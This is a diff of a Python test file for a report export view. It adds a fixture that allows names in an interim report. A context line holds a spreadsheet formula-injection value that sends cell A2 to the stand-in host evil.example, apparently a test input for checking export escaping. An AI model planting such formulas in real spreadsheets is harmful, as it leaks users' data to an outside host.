@@ -17,6 +17,14 @@ from .conftest import allocate, points
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
 
 
+@pytest.fixture(autouse=True)
+def _names_allowed(evaluation):
+    """The named export exists where the evaluation lets the team see names; these tests are
+    about that file (test_team_sees_no_names covers an evaluation without names)."""
+    evaluation.names_in_interim_report = True
+    evaluation.save()
+
+
 def export(client, evaluation, **params):
     return client.get(reverse("reports:export", args=[evaluation.slug]), params)
 
